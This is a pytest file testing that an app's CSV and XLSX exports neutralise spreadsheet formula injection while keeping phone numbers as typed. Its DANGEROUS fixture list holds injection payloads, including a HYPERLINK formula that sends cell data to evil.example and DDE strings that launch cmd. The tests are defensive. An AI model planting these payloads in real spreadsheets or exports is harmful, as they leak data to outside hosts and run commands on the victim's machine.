"""Exports neutralise text a spreadsheet would run as a formula, and leave the rest as typed."""

import csv
import io

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from app.db import Database
from app.exports.tables import csv_safe
from app.models import Facility
from tests.factories import World

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "+86 138 0000 0000+A1",
    "+86-138-0000-0000",  # Excel computes it: -52
    "+86 138 0000 0000",
]
AS_TYPED = ["+8613800000000", "13800000000", "0356-1234567", "138 0000 0000", "张三", ""]


@pytest.mark.parametrize("text", DANGEROUS)
def test_formula_text_gets_a_leading_apostrophe(text: str) -> None:
    assert csv_safe(text) == "'" + text


@pytest.mark.parametrize("text", AS_TYPED)
def test_phone_numbers_and_plain_text_are_written_as_typed(text: str) -> None:
    assert csv_safe(text) == text


def test_numbers_and_none_pass_through() -> None:
    assert (csv_safe(-5), csv_safe(None)) == (-5, "")


def test_the_overdue_export_keeps_phone_numbers_and_neutralises_formulas(
    client: TestClient, world: World, db: Database
) -> None:
    formula = "-2+3"
    with db.begin() as session:
        facility = session.get(Facility, world.facility_a.id)
        facility.custodian_phone = "+8613800000000"
        facility.custodian_name = formula
        facility.next_due_on = facility.registered_on
    params = {"as_of": "2100-01-01", "township_id": world.township_a.id}
    text = client.get("/api/v1/exports/overdue.csv", params=params, headers=world.headers("county"))
    header, row = list(csv.reader(io.StringIO(text.content.decode("utf-8-sig"))))[:2]
    assert row[header.index("管护人电话")] == "+8613800000000"
    assert row[header.index("管护人")] == "'-2+3"
    book = client.get(
        "/api/v1/exports/overdue.xlsx", params=params, headers=world.headers("county")
    )
    sheet = load_workbook(io.BytesIO(book.content)).active
    phone = sheet.cell(row=2, column=header.index("管护人电话") + 1)
    assert (phone.value, phone.data_type) == ("+8613800000000", "s")  # text, not a number
